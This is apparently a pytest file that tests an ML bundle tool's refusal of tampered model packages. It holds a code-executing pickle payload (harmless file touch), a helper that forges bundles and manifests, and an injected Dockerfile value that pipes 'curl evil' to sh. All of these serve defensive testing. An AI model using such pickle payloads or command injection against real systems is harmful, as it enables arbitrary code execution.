"""Attacks on a bundle by someone who can write its folder, and the refusals they meet.

The payload is a real pickle that creates a marker file when it is unpickled: every refusal below
also asserts that the marker never appeared, i.e. that nothing of the bundle was unpickled.
"""

from __future__ import annotations

import json
import pathlib
import pickle
import shutil
from types import SimpleNamespace

import mlflow.pyfunc
import mlflow.sklearn
import pytest
import yaml

from workbench.cli import main
from workbench.deploy import create_app, read_prediction_log, score_batch
from workbench.exceptions import TamperedBundleError, UnanchoredBundleError
from workbench.package import load_bundle, package_model
from workbench.package.container import ContainerSpec, dockerfile
from workbench.package.manifest import MANIFEST_NAME, file_sha256, write_manifest
from workbench.project import Project


class _Payload:
    """Unpickling it touches ``marker``: proof that code from the bundle ran."""

    def __init__(self, marker: pathlib.Path) -> None:
        self.marker = marker

    def __reduce__(self) -> tuple:
        return (pathlib.Path.touch, (pathlib.Path(self.marker),))


@pytest.fixture(scope="module")
def packaged(trained, tmp_path_factory) -> SimpleNamespace:
    """A copy of `trained`, packaged once: its registry tags version 1 with the manifest's sha256."""
    base = tmp_path_factory.mktemp("tampered")
    root = base / "proj"
    shutil.copytree(trained.project.root, root)
    project = Project.load(root)
    bundle = package_model(project, f"runs:/{trained.run_id}/model", base / "bundle")
    return SimpleNamespace(project=project, bundle=bundle, rows=trained.split.X_test.head(5), base=base)


def _plant_pickle(bundle: pathlib.Path, marker: pathlib.Path) -> None:
    """Replace the bundle's model with a pickle that runs code on load, as MLflow's sklearn flavor reads it."""
    model = bundle / "model"
    mlmodel = yaml.safe_load((model / "MLmodel").read_text())
    for name in [p.name for p in model.iterdir() if p.name.startswith("model.")]:
        (model / name).unlink()
    (model / "model.pkl").write_bytes(pickle.dumps(_Payload(marker)))
    mlmodel["flavors"]["sklearn"].update(pickled_model="model.pkl", serialization_format="cloudpickle")
    mlmodel["flavors"]["python_function"]["model_path"] = "model.pkl"
    (model / "MLmodel").write_text(yaml.safe_dump(mlmodel))


@pytest.fixture
def forged(packaged, tmp_path) -> SimpleNamespace:
    """The bundle with a code-running pickle, ``bundle.json`` naming version 999, and a recomputed manifest."""
    path = tmp_path / "forged"
    shutil.copytree(packaged.bundle.path, path)
    marker = tmp_path / "payload-ran"
    _plant_pickle(path, marker)
    info = json.loads((path / "bundle.json").read_text())
    (path / "bundle.json").write_text(json.dumps({**info, "version": "999"}))
    write_manifest(path)
    return SimpleNamespace(path=path, marker=marker)


def test_the_payload_is_real_code_execution(forged):
    mlflow.sklearn.load_model(str(forged.path / "model"))  # MLflow without the bundle's checks
    assert forged.marker.exists()


def test_verify_strict_refuses_a_bundle_nothing_anchors(forged, capsys, monkeypatch):
    monkeypatch.chdir(forged.path.parent)  # not a project folder: no registry to look in
    assert main(["verify", str(forged.path), "--strict"]) == 2
    assert "Nothing outside the bundle" in capsys.readouterr().err
    assert main(["verify", str(forged.path)]) == 0  # integrity only: said so, and nothing is loaded
    assert "so the model was not loaded" in capsys.readouterr().out
    assert not forged.marker.exists()


def test_the_registry_is_searched_by_hash_not_by_the_version_the_bundle_names(forged, packaged, capsys):
    project = str(packaged.project.root)
    assert main(["verify", str(forged.path), "-P", project]) == 2
    assert "was packaged with the manifest" in capsys.readouterr().err
    info = json.loads((forged.path / "bundle.json").read_text())
    info.pop("version")  # naming no version does not skip the check either
    (forged.path / "bundle.json").write_text(json.dumps(info))
    write_manifest(forged.path)
    with pytest.raises(TamperedBundleError, match="rewritten after packaging"):
        load_bundle(forged.path, project=packaged.project)
    assert not forged.marker.exists()


def test_load_bundle_never_unpickles_an_unanchored_bundle(forged):
    bundle = load_bundle(forged.path)
    assert bundle.anchored is None and bundle.info["version"] == "999"
    with pytest.raises(UnanchoredBundleError, match="its model is not loaded"):
        bundle.predict([{}])
    with pytest.raises(UnanchoredBundleError):
        load_bundle(forged.path, strict=True)
    assert not forged.marker.exists()


def test_serve_and_score_refuse_a_forged_bundle(forged, packaged, tmp_path, capsys):
    project = str(packaged.project.root)
    for target in (forged.path / "model", forged.path):  # its model folder, or the bundle folder itself
        with pytest.raises(TamperedBundleError, match="rewritten after packaging"):
            create_app(packaged.project, str(target))
        assert main(["serve", str(target), "-P", project]) == 2
        assert "rewritten after packaging" in capsys.readouterr().err
    serving = Project.load(forged.path / "serve", check_data=False)  # the bundle's own project anchors nothing
    with pytest.raises(UnanchoredBundleError, match="holds no packaged version"):
        create_app(serving, str(forged.path / "model"))
    packaged.rows.to_csv(tmp_path / "rows.csv", index=False)
    with pytest.raises(TamperedBundleError):
        score_batch(packaged.project, str(forged.path / "model"), tmp_path / "rows.csv", tmp_path / "out.csv")
    assert not forged.marker.exists()


def test_a_bundle_without_its_manifest_is_never_loaded(packaged, tmp_path, capsys):
    path = tmp_path / "bundle"
    shutil.copytree(packaged.bundle.path, path)
    genuine = file_sha256(path / MANIFEST_NAME)
    marker = tmp_path / "payload-ran"
    _plant_pickle(path, marker)
    (path / MANIFEST_NAME).unlink()
    with pytest.raises(TamperedBundleError, match=r"has no MANIFEST\.sha256"):
        mlflow.pyfunc.load_model(str(path / "model"))
    with pytest.raises(TamperedBundleError, match=r"has no MANIFEST\.sha256"):
        create_app(packaged.project, str(path / "model"))
    assert main(["serve", str(path / "model"), "-P", str(path / "serve"), "--expect", genuine]) == 2
    assert "has no MANIFEST.sha256" in capsys.readouterr().err
    (path / "bundle.json").unlink()  # still a bundle's model folder: its MLmodel names the bundle's loader
    with pytest.raises(TamperedBundleError, match=r"has no MANIFEST\.sha256"):
        create_app(packaged.project, str(path / "model"))
    alone = tmp_path / "alone" / "model"  # the model folder copied out of its bundle
    shutil.copytree(path / "model", alone)
    with pytest.raises(TamperedBundleError, match=r"has no MANIFEST\.sha256"):
        mlflow.pyfunc.load_model(str(alone))
    assert not marker.exists()


def test_the_policy_is_never_skipped(packaged, tmp_path):
    path = tmp_path / "bundle"
    shutil.copytree(packaged.bundle.path, path)
    (path / "policy.json").unlink()
    write_manifest(path)  # the manifest rewritten without it
    with pytest.raises(TamperedBundleError, match=r"has no policy\.json"):
        mlflow.pyfunc.load_model(str(path / "model"))
    with pytest.raises(TamperedBundleError):
        create_app(packaged.project, str(path / "model"), expected_sha256=file_sha256(path / MANIFEST_NAME))


def test_serving_a_bundle_by_its_folder_records_the_registered_version(packaged, tmp_path):
    from fastapi.testclient import TestClient

    root = tmp_path / "proj"
    shutil.copytree(packaged.project.root, root)  # its own prediction log
    project = Project.load(root)
    version = packaged.bundle.version
    assert version == "1"
    with TestClient(create_app(project, str(packaged.bundle.path / "model"))) as client:
        assert client.get("/v1/model").json()["version"] == version
        records = packaged.rows.astype(object).where(packaged.rows.notna(), None).to_dict(orient="records")
        assert client.post("/v1/predict", json=records).status_code == 200
    assert set(read_prediction_log(project)["model_version"]) == {version}


def test_the_image_is_built_and_started_against_an_anchor_from_outside():
    text = dockerfile(ContainerSpec(name="m", version="3", image="m:v3", python="3.11.9"))
    assert "ARG BUNDLE_SHA256" in text and "ENV WORKBENCH_BUNDLE_SHA256=${BUNDLE_SHA256}" in text
    assert 'RUN workbench verify --strict --expect "${BUNDLE_SHA256}" /srv/bundle' in text
    for image in ("m:v3\nRUN curl evil | sh", "m v3", "m:v3\r"):
        with pytest.raises(Exception, match="cannot be written into the Dockerfile"):
            dockerfile(ContainerSpec(name="m", version="3", image=image, python="3.11.9"))
